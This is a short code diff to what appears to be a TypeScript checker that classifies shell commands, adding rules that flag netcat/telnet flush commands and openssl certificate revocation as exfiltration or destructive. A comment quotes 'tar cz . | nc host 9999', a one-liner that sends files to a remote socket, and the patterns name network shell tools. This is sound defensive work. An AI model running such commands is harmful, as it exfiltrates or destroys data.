@@ -127,6 +127,7 @@ function downloadedNames(
 
 /** `tar cz . | nc host 9999`: whatever is in the files goes to a bare socket. */
 function sendsFiles({ name, args, stdin }: Call): boolean {
+  if (/^(nc|ncat|netcat|telnet)$/.test(name) && /^\s*flush(_all|all|db)\b/i.test(stdin ?? '')) return true;
   return (
     /^(nc|ncat|netcat|telnet)$/.test(name) &&
     stdin !== undefined &&
@@ -178,6 +179,7 @@ export const judgeScp: Handler = (call) => {
 export const judgeOpenssl: Handler = (call) => (call.args[0] === 's_client' ? network : openssl(call));
 
 function openssl(call: Call): Hit {
+  if (call.args.includes('-revoke')) return hit('bash_destructive', 'service-delete');
   const written = call.args.filter((_, index) =>
     /^-(out|keyout|writerand)$/.test(call.args[index - 1] ?? ''),
   );
